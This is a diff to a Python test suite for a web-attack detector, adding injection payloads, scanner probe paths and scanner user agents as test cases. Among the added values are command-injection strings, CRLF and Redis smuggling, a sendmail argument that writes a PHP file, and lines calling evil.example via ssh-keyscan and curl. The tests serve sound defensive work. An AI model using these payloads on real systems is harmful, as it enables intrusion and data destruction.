@@ -175,6 +175,16 @@ OTHERS = [
     "() { :;}; echo x",
     "cat${IFS}/etc/passwd",
     ";wget http://x/y",
+    "; w'h'o'am'i",
+    "& wh^oami",
+    "; ssh-keyscan evil.example >> ~/.ssh/known_hosts",
+    "--use-compress-program=id",
+    "x\r\nStatus: 302",
+    "x\r\nFLUSHALL\r\n",
+    "guest\n[INFO] User admin logged in",
+    "\u010d\u010aSet-Cookie:x=y",
+    "a@b.example\n\nBuy now",
+    "-OQueueDirectory=/tmp -X/var/www/x.php jo@ex.example",
     "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
     "..%u2215..%u2215etc%u2215passwd",
     "http://evil.example/shell.txt?",
@@ -424,6 +434,10 @@ def test_the_prefilter_leaves_no_detector_out(detectors: Detectors, text: str) -
         ("/db.sql.gz", True),
         ("/server.key", True), ("/cgi-bin/test.cgi", True), ("/solr/admin/cores", True),
         ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", True), ("/actuator/heapdump", True),
+        ("/.netrc", True), ("/wp-config-backup.php", True), ("/old/web.7z", True), ("/cmd.aspx", True),
+        ("/debug/pprof/heap", True), ("/dana-na/auth", True), ("/ZmEu", True), ("/_all_dbs", True),
+        ("/blog/tags/mysql", False), ("/docs/jenkins/", False), ("/js/jquery.core.js", False),
+        ("/wp-admin/admin-ajax.php", False), ("/download/app.zip", False), ("/news/telescope/", False),
         ("/index.php", False), ("/environment", False), ("/news/backup-plans", False),
         ("/.well-known/x", False),
     ],
@@ -435,3 +449,33 @@ def test_paths_that_only_scanners_ask_for(path: str, is_probe: bool) -> None:
 def test_what_is_found_behind_encodings_says_so(detectors: Detectors) -> None:
     (found,) = detectors.findings(b"%2527%2520or%25201=1--")
     assert (found.id, found.decoded, found.score) == ("sqli", True, 5)
+
+
+@pytest.mark.parametrize(
+    ("agent", "is_scanner"),
+    [
+        ("sqlmap/1.7.2#stable (https://sqlmap.org)", True),
+        ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", True),
+        ("Mozilla/5.0 zgrab/0.x", True), ("gobuster/3.6", True), ("WPScan v3.8.25", True),
+        ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", True),
+        ("curl/8.4.0", False), ("Wget/1.21.3", False), ("python-requests/2.31.0", False),
+        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", False),
+        ("Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/121.0", False),
+    ],
+)  # fmt: skip
+def test_scanners_are_known_by_the_name_they_give(detectors: Detectors, agent: str, is_scanner: bool) -> None:
+    found = [one.id for one in detectors.findings_in_agent(agent.encode())]
+    assert found == (["agent"] if is_scanner else [])
+
+
+def test_what_is_shown_to_people_is_a_warning_and_what_is_added_to_a_value_an_attack(
+    detectors: Detectors,
+) -> None:
+    shown = [
+        b"Does `sleep 5 &` put the process in the background? Yes; use `jobs` and `fg`.",
+        b"tar czf backup.tgz /home/me && scp backup.tgz me@nas:/backups/",
+        b"SELECT a FROM t1 UNION SELECT b FROM t2;",
+    ]
+    added = [b"x`sleep 5`", b"127.0.0.1 && curl http://evil.example/", b"1 UNION SELECT b FROM t2"]
+    assert [sum(one.score for one in detectors.findings(value)) for value in shown] == [3, 3, 3]
+    assert [sum(one.score for one in detectors.findings(value)) for value in added] == [5, 5, 5]
